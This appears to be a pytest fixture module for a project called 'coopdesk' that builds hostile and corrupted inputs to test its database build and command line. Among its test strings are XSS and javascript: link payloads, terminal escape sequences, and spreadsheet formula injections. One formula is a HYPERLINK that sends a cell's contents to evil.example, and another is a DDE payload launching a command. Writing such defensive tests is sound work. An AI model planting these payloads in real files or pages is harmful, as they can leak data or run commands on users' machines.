"""Hostile and broken inputs, made on the fly in temporary folders."""

from __future__ import annotations

import os
import sqlite3
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from conftest import doctored_copy
from coopdesk.build import build

HOSTILE_TITLE = '<script>alert("x")</script><b>Bold</b> <img src="http://example.org/t.png">'
RTL = "\u202eevil\u202c \u05e9\u05dc\u05d5\u05dd"
ZERO_WIDTH = "zero\u200bwidth\u200d"
LONG = "L" * 100_000
# What a terminal would act on: colours, a bell, NUL, and a C1 "clear screen".
ESCAPES = "\x1b[31mred\x1b[0m \x07bell \x00nul \x9b2Jcsi \x7fdel"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
FORMULAS = ["+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB=1", "\rCR=1", "＝1+1"]
ENTITIES = "Tom &amp; Jerry &lt;b&gt; &#x202E;"
TWO_LINES = "First line\n## Injected heading\r\n> injected quote"
IMAGE = '<img src="file:///tmp/coopdesk-probe.png"><b>bold</b>'  # Qt would load and show it


def toml_str(text: str) -> str:
    """A TOML basic string holding ``text`` exactly (controls as \\u escapes)."""
    out = []
    for char in text:
        if char in '"\\' or ord(char) < 0x20 or 0x7F <= ord(char) <= 0x9F:
            out.append(f"\\u{ord(char):04x}")
        else:
            out.append(char)
    return '"' + "".join(out) + '"'


def hostile_source(folder: Path) -> Path:
    """A document and curation whose text is full of markup, bidi controls and long lines."""
    folder.mkdir(parents=True, exist_ok=True)
    text = (
        f"{HOSTILE_TITLE}\n\n"
        f"On 1 May 2019 a meeting called {HOSTILE_TITLE} took place in <style>body{{}}</style>.\n\n"
        f'The link <a href="javascript:alert(1)">click</a> and {RTL} and {ZERO_WIDTH}.\n\n'
        f"On 2 May 2019 an instrument was this long: {LONG} words\n\n"
        f"On 2 June 2019 the {ESCAPES} meeting took place.\n\n"
        f"Formulas: {FORMULA} and more.\n"
    )
    (folder / "hostile.txt").write_text(text, encoding="utf-8")
    title_in_toml = HOSTILE_TITLE.replace('"', '\\"')
    # Titles of ours on dates of ours, as the curation rules mark them (issue 11).
    ours = (
        'title_basis = "editorial"\ntitle_reason = "A hostile test title."\n'
        'date_basis = "inferred"\ndate_reason = "A test date."\n'
    )
    formulas = toml_str(f"Formulas: {FORMULA} and more.")
    formula_records = "".join(
        f'\n[[record]]\nid = "event/2019-07-0{n}-formula"\nkind = "meeting"\n'
        f'title = {toml_str(text)}\ndate = "2019-07-0{n}"\n{ours}quote = {formulas}\n'
        for n, text in enumerate(FORMULAS, 1)
    )
    toml = f"""
[document]
id = "hostile"
file = "hostile.txt"

[[record]]
id = "event/2019-05-01-hostile"
kind = "meeting"
title = {HOSTILE_TITLE!r}
date = "2019-05-01"
place = "place/style"
place_basis = "inferred"
place_reason = "<b>The</b> place named in the paragraph's markup."
quote = "On 1 May 2019 a meeting called {title_in_toml} took place"

[[record]]
id = "place/style"
kind = "place"
title = "<style>body{{}}</style>"
quote = "<style>body{{}}</style>"

[[record]]
id = "agency/javascript"
kind = "agency"
side = "eu"
side_basis = "editorial"
side_reason = "<script>side()</script> {RTL}"
title = "<a href=\\"javascript:alert(1)\\">click</a> {RTL} {ZERO_WIDTH}"
title_basis = "editorial"
title_reason = "<i>A title of ours</i>"
quote = "The link <a href=\\"javascript:alert(1)\\">click</a>"

[[record]]
id = "instrument/2019-05-02-long"
kind = "instrument"
title = "Long"
date = "2019-05-02"
quote = "On 2 May 2019 an instrument was this long: {LONG}"

[[record]]
id = "event/2019-06-02-escapes"
kind = "meeting"
title = {toml_str("Escapes " + ESCAPES)}
title_basis = "editorial"
title_reason = "A hostile test title."
date = "2019-06-02"
quote = {toml_str("On 2 June 2019 the " + ESCAPES + " meeting")}

[[record]]
id = "event/2019-06-03-formula"
kind = "meeting"
title = {toml_str(FORMULA)}
date = "2019-06-03"
date_basis = "inferred"
date_reason = "A test date."
quote = {toml_str(FORMULA)}

[[record]]
id = "event/2019-06-04-entities"
kind = "meeting"
title = {toml_str(ENTITIES)}
date = "2019-06-04"
{ours}quote = {formulas}

[[record]]
id = "event/2019-06-05-two-lines"
kind = "meeting"
title = {toml_str(TWO_LINES)}
date = "2019-06-05"
{ours}quote = {formulas}
{formula_records}
[[record]]
id = "offence/1-hostile"
kind = "offence"
number = 1
number_basis = "editorial"
number_reason = "A test number."
title = {toml_str(IMAGE + " offence")}
title_basis = "editorial"
title_reason = "A hostile test title."
quote = "took place in"

[[link]]
from = "event/2019-05-01-hostile"
to = "offence/1-hostile"
relation = "concerns"
basis = "stated"
quote = "took place in"

[[link]]
from = "event/2019-05-01-hostile"
to = "agency/javascript"
relation = "participant"
role = "<i>role</i> \\u202eevil role"
basis = "inferred"
reason = "<script>reason()</script>"
quote = "and {RTL} and"
"""
    (folder / "hostile.toml").write_text(toml, encoding="utf-8")
    return folder


@pytest.fixture(scope="session")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    out = folder / "hostile.db"
    build(hostile_source(folder / "source"), out)
    return out


@pytest.fixture
def damaged_copies(built_db: Path, tmp_path: Path) -> dict[str, Path]:
    """One file for each way a database can be broken."""
    good = built_db.read_bytes()
    cases: dict[str, Path] = {}

    def make(name: str, data: bytes) -> None:
        path = tmp_path / f"{name}.db"
        path.write_bytes(data)
        cases[name] = path

    make("empty", b"")
    make("not-sqlite", b"PK\x03\x04 this is a zip, not a database" * 50)
    make("truncated", good[: len(good) // 3])
    flipped = bytearray(good)
    for offset in range(4096 + 100, len(flipped), 997):
        flipped[offset] ^= 0xFF
    make("bit-flipped", bytes(flipped))
    cases["other-version"] = doctored_copy(
        built_db,
        tmp_path / "other-version.db",
        "UPDATE meta SET value = '1' WHERE key = 'schema_version'",
    )
    foreign = tmp_path / "foreign.db"
    conn = sqlite3.connect(foreign)
    conn.execute("CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT)")
    conn.commit()
    conn.close()
    cases["foreign-schema"] = foreign
    return cases


def run_on_read_only(
    folder: Path, argv: list[str], **kwargs: Any
) -> subprocess.CompletedProcess[str]:
    """Run ``argv`` with ``folder`` on a read-only file system.

    As root (who may write anywhere) the folder is bound read-only in a mount namespace
    of its own (``unshare``); as another user the folder and its files lose their write
    permission for the run.
    """
    if os.geteuid() == 0:
        script = (
            'mount --bind "$1" "$1" && mount -o remount,ro,bind "$1" "$1" && shift && exec "$@"'
        )
        command = ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script, "sh"]
        return subprocess.run(
            [*command, str(folder), *argv], capture_output=True, text=True, timeout=120, **kwargs
        )
    modes = {p: p.stat().st_mode for p in [folder, *folder.iterdir()]}
    for path, mode in modes.items():
        path.chmod(mode & ~0o222)
    try:
        return subprocess.run(argv, capture_output=True, text=True, timeout=120, **kwargs)
    finally:
        for path, mode in modes.items():
            path.chmod(mode)


def cli(*args: str, **kwargs: Any) -> subprocess.CompletedProcess[str]:
    """The ``coopdesk`` command in a process of its own."""
    return subprocess.run(
        [sys.executable, "-m", "coopdesk", *args],
        capture_output=True,
        text=True,
        timeout=300,
        **kwargs,
    )


def one_error_line(result: subprocess.CompletedProcess[str]) -> str:
    """The single stderr line of a refused command (exit 2, no traceback)."""
    assert result.returncode == 2, (result.returncode, result.stdout[-500:], result.stderr)
    assert "Traceback" not in result.stderr and "unexpected error" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    return lines[0]
